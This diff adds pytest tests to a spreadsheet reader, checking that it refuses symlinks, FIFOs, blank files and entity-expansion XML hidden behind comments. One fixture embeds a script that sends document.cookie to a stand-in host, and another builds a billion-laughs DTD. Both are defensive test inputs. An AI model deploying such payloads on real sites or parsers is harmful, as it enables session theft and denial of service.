@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import os
 import pickle
 import random
 import re
@@ -392,6 +393,29 @@ def test_html_without_tables(tmp_path):
     assert _refusal(path).rule == "read.no_table"
 
 
+def test_html_script_text_is_not_a_cell(tmp_path):
+    path = tmp_path / "dvc.xls"
+    path.write_text(
+        "<html><head><script>alert('đầu trang')</script><style>td{color:red}</style></head><body><table>"
+        "<tr><td>Đơn vị<script>fetch('https://x.example/?c='+document.cookie)</script> A</td><td>1</td></tr>"
+        "</table></body></html>",
+        encoding="utf-8",
+    )
+    assert _read(path).sheets[0].rows == [["Đơn vị A", "1"]]
+
+
+def test_html_cut_short_by_a_parser_limit_is_refused(tmp_path):
+    """libxml2 stops at 256 levels of nesting and keeps what it had: the last row would be lost."""
+    path = tmp_path / "long_nhau.xls"
+    path.write_text(
+        "<html><body><table><tr><td>1</td><td>" + "<div>" * 300 + "x</td></tr><tr><td>2</td></tr></table>",
+        encoding="utf-8",
+    )
+    error = _refusal(path)
+    assert error.rule == "read.html_incomplete"
+    assert "lồng nhau quá sâu" in error.message
+
+
 def test_xml_spreadsheet_2003(tmp_path):
     xml = """<?xml version="1.0" encoding="UTF-8"?>
 <?mso-application progid="Excel.Sheet"?>
@@ -558,6 +582,29 @@ def test_workbook_without_data(tmp_path):
     assert _refusal(path).rule == "read.no_data"
 
 
+def test_csv_of_only_blanks_has_no_data(tmp_path):
+    path = tmp_path / "trang.csv"
+    path.write_bytes("  \r\n\t\t\r\n \u00a0  \r\n".encode())  # spaces, tabs, a no-break space
+    assert _refusal(path).rule == "read.no_data"
+
+
+@pytest.mark.parametrize("kind", ["symlink", "fifo"])
+def test_links_and_special_files_are_refused_unread(tmp_path, kind):
+    target = tmp_path / "that.csv"
+    target.write_text("Tên hàng,Số lượng\nGạo,2\n", encoding="utf-8")
+    path = tmp_path / "lien_ket.csv"
+    try:
+        os.symlink(target, path) if kind == "symlink" else os.mkfifo(path)
+    except (OSError, NotImplementedError, AttributeError):
+        pytest.skip(f"this platform cannot create a {kind}")
+    # Opening a FIFO for reading waits for a writer forever: the refusal must come first. The time
+    # limit turns that wait, without the check, into a failure rather than a hung test.
+    with pytest.raises(ReadError) as info:
+        sandbox.read_isolated(path, path.name, timeout=10)
+    assert info.value.rule == "read.not_regular_file"
+    assert info.value.message.startswith("Tệp lien_ket.csv: đây là liên kết")
+
+
 def _patch_declared_size(data: bytes, member: str, size: int) -> bytes:
     """Make the central directory claim `size` inflated bytes for one member."""
     out = bytearray(data)
@@ -598,6 +645,50 @@ def test_xml_entities_are_refused(tmp_path, member):
     error = _refusal(path)
     assert error.rule == "read.xml_entities"
     assert member in error.message
+
+
+_LAUGH = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+
+
+@pytest.mark.parametrize(
+    ("prolog", "encoding"),
+    [
+        (b"<!-- <worksheet/> -->", "utf-8"),  # an element inside a comment is not the root
+        (b"<!--" + b"x" * 100_000 + b"-->", "utf-8"),  # beyond a fixed-size look at the head
+        (b"<?pi <worksheet/> ?>", "utf-8"),
+        ("<!-- \u2d2d> <worksheet/> -->".encode("utf-8"), "utf-16"),  # U+2D2D then ">": "-->" without NULs
+    ],
+    ids=["element-in-comment", "long-comment", "element-in-pi", "utf16-dash-pair"],
+)
+def test_doctype_behind_a_comment_is_refused(tmp_path, prolog, encoding):
+    src = _form_xlsx(tmp_path / "f.xlsx")
+    member = "xl/worksheets/sheet1.xml"
+
+    def inject(data: bytes) -> bytes:
+        text = data.decode("utf-8")
+        end = text.find("?>") + 2 if text.startswith("<?xml") else 0
+        hidden = text[:end] + (prolog + _LAUGH).decode("utf-8") + text[end:]
+        return hidden.encode(encoding)
+
+    path = _rewrite_zip(src, tmp_path / "an.xlsx", {member: inject})
+    error = _refusal(path)
+    assert (error.rule, member in error.message) == ("read.xml_entities", True)
+
+
+def test_prolog_longer_than_any_writer_makes_is_refused(tmp_path):
+    src = _form_xlsx(tmp_path / "f.xlsx")
+    rng = random.Random(11)  # letters that do not compress: a run of one letter would be a zip bomb
+    filler = "".join(rng.choice(string.ascii_letters) for _ in range(readers._MAX_PROLOG_BYTES + 1))
+    comment = b"<!--" + filler.encode() + b"-->"
+    path = _rewrite_zip(src, tmp_path / "dai.xlsx", {"xl/styles.xml": lambda d: comment + d})
+    assert _refusal(path).rule == "read.xml_prolog_too_long"
+
+
+def test_comments_before_the_root_are_accepted(tmp_path):
+    src = _form_xlsx(tmp_path / "f.xlsx")
+    note = b"<!-- written by a tool: <b>bold</b> -->"
+    path = _rewrite_zip(src, tmp_path / "chu_thich.xlsx", {"xl/styles.xml": lambda d: note + d})
+    assert _read(path).sheets[0].rows[0][0] == "UBND HUYỆN HỮU LŨNG"
 
 
 def test_too_large_file(tmp_path, monkeypatch):
